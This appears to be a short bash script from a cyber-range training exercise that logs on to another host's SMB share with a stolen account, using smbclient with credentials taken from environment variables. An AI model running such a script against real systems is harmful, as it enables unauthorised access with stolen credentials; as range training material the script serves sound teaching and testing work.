#!/usr/bin/env bash
# (Enshu exercise) Logs on to another host's share with a stolen account.
# Environment: TARGET (host name), SHARE, ACCOUNT, PASSWORD.
# Run on a range host as `env NAME=value... bash -c SCRIPT`: values arrive only as environment variables.
set -e
smbclient "//$TARGET/$SHARE" -U "$ACCOUNT%$PASSWORD" -c 'ls' > /dev/null
echo "logged on to //$TARGET/$SHARE as $ACCOUNT"
